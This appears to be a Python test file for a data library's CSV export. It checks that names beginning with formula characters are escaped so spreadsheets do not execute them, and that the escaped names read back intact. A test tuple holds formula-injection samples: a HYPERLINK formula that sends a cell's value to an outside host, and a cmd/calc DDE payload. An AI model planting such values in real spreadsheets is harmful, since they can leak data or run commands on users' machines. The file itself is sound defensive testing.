"""Names that a spreadsheet would run as a formula: written so that it does not, and read back as they were."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from small_files import random_pixels, rows_by_key

from fastload.export import export_file
from fastload.format.ragged import Column
from fastload.pack import pack_images
from fastload.sources.tables import ESCAPED, ParsedTable, escape_formula, without_escapes
from sample_files import write_packed

RUN = "=+-@\t\r\n＝＋－＠"  # what a cell that is a formula begins with
TEXTS = st.text(st.one_of(st.sampled_from("=+-@'\t\r\n ,;\"1.e＝＠"), st.characters(codec="utf-8")), max_size=8)
NASTY = ('=HYPERLINK("http://x/"&A1)', "+1+cmd' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "''-x", "plain")


def is_formula(cell: str) -> bool:
    number = re.fullmatch(r"[+-]?(\d+\.?\d*(e[+-]?\d+)?|inf|nan)", cell, re.IGNORECASE)
    return cell.lstrip(" ")[:1] in tuple(RUN) and not number


@settings(max_examples=12 * settings.default.max_examples)
@example([["", " \n"]])
@given(st.lists(st.lists(TEXTS, min_size=2, max_size=2), min_size=1, max_size=5))
def test_no_cell_is_a_formula_and_all_come_back(rows: list[list[str]]) -> None:
    safe = [[escape_formula(cell) for cell in row] for row in rows]
    assert not any(is_formula(cell) for row in safe for cell in row)
    columns: list[list[Any]] = [*map(list, zip(*safe, strict=True)), ["1"] * len(rows)]
    table = ParsedTable("t.csv", (escape_formula("-a"), "b", ESCAPED), columns, list(range(len(rows))))
    plain = without_escapes(table)
    assert plain.names == ("-a", "b")
    assert plain.columns == list(map(list, zip(*rows, strict=True)))
    foreign = ParsedTable("t.csv", ("a", "b"), columns[:2], table.lines)
    assert without_escapes(foreign) is foreign, "a table of others keeps its apostrophes"


@pytest.mark.parametrize("number", ["-1", "-1.5", "-1e-07", "+3", "-inf", "nan", "-0.0", "5."])
def test_numbers_stay_numbers(number: str) -> None:
    assert escape_formula(number) == number


def make(path: Path, **columns: Column) -> Path:
    rows = len(next(iter(columns.values())).values)
    keys = Column(np.array([f"{'=-@+'[i % 4]}{i}.png".encode() for i in range(rows)]))
    return write_packed(path, random_pixels(rows, (4, 5, 3)), {**columns, "key": keys})


def cells_of(folder: Path) -> list[list[str]]:
    with open(folder / "manifest.csv", newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def assert_same_rows(source: Path, again: Path) -> None:
    """The same keys, fields, values, dtypes and names, in any order of rows."""
    with h5py.File(source) as a, h5py.File(again) as b:
        order = [a["key"][()].tolist().index(key) for key in b["key"][()].tolist()]
        names = set(a) - {"digest_fields"}
        assert names == set(b) - {"digest_fields"}
        for name in names:
            assert a[name].dtype == b[name].dtype
            np.testing.assert_array_equal(a[name][()][order], b[name][()])
            assert list(a[name].attrs.get("names", ())) == list(b[name].attrs.get("names", ()))


def classes(path: Path) -> dict[bytes, Any]:
    """Pixel digest -> class."""
    return {row["digest"]: row["labels"] for row in rows_by_key(path).values()}


def test_a_spreadsheet_runs_nothing_and_pack_reads_the_same(tmp_path: Path) -> None:
    rows = np.arange(14)
    source = make(
        tmp_path / "a.h5",
        labels=Column(rows % 7, {"names": NASTY}),
        by=Column(np.array([NASTY[i % 7].encode() for i in rows])),
        shift=Column(-rows / 4),
        at=Column(rows[:, None] * [-1, 1], {"names": ("=x", "-y")}),
    )
    export_file(source, tmp_path / "out", layout="csv")
    head, *cells = cells_of(tmp_path / "out")
    assert head[-1] == ESCAPED and {row[-1] for row in cells} == {"1"}
    assert not any(is_formula(cell) for row in (head, *cells) for cell in row)
    assert [float(row[head.index("shift")]) for row in cells] == (-rows / 4).tolist()
    assert "'at_=x" not in head and "at_=x" in head, "only what begins so is run"
    assert_same_rows(source, pack_images(tmp_path / "out", tmp_path / "b.h5", workers=0).path)
    # Edited, so that fastload.json no longer fits.
    with open(tmp_path / "out" / "manifest.csv", "a", encoding="utf-8") as file:
        file.write("\n")
    edited = pack_images(tmp_path / "out", tmp_path / "c.h5", workers=0).path
    assert classes(edited) == classes(source)
    with h5py.File(edited) as file:
        assert ESCAPED not in file


def test_attribute_names_and_classes_of_boxes_are_escaped_too(tmp_path: Path) -> None:
    attributes = Column(np.eye(3, dtype=np.uint8), {"names": ("=a", "-b", "c")})
    export_file(make(tmp_path / "a.h5", labels=attributes), tmp_path / "out", layout="csv")
    (tmp_path / "out" / "fastload.json").unlink()
    assert cells_of(tmp_path / "out")[0] == ["file_name", "'=a", "'-b", "c", ESCAPED]
    with h5py.File(pack_images(tmp_path / "out", tmp_path / "b.h5", workers=0).path) as file:
        assert list(file["labels"].attrs["names"].astype(str)) == ["=a", "-b", "c"]
    boxes = {
        "boxes": Column(np.arange(24, dtype=np.float32).reshape(3, 2, 4) + 1, {"coordinates": "xywh"}),
        "num_boxes": Column(np.array([2, 0, 1])),
        "box_labels": Column(np.array([[0, 1], [-1, -1], [1, -1]]), {"names": ("=car", "@dog")}),
    }
    export_file(make(tmp_path / "c.h5", **boxes), tmp_path / "boxes")
    head, *cells = cells_of(tmp_path / "boxes")
    assert head == ["file_name", "x", "y", "width", "height", "label", ESCAPED]
    assert [row[5] for row in cells] == ["'=car", "'@dog", "", "'@dog"] and {row[6] for row in cells} == {"1"}
    (tmp_path / "boxes" / "fastload.json").unlink()
    with h5py.File(pack_images(tmp_path / "boxes", tmp_path / "d.h5", workers=0, outside_boxes="keep").path) as file:
        assert list(file["box_labels"].attrs["names"].astype(str)) == ["=car", "@dog"]


def test_a_table_without_such_cells_has_no_further_column(tmp_path: Path) -> None:
    export_file(make(tmp_path / "a.h5", labels=Column(np.array([-1, 0, 1]))), tmp_path / "out", layout="csv")
    assert cells_of(tmp_path / "out")[0] == ["file_name", "label"]


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TEXTS.filter(lambda text: "\0" not in text), min_size=1, max_size=5, unique=True))
def test_any_names_come_back_from_an_export(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    folder = tmp_path_factory.mktemp("any")
    source = make(folder / "a.h5", labels=Column(np.arange(6) % len(names), {"names": tuple(names)}))
    export_file(source, folder / "out", layout="csv")
    assert not any(is_formula(cell) for row in cells_of(folder / "out") for cell in row)
    assert_same_rows(source, pack_images(folder / "out", folder / "b.h5", workers=0).path)
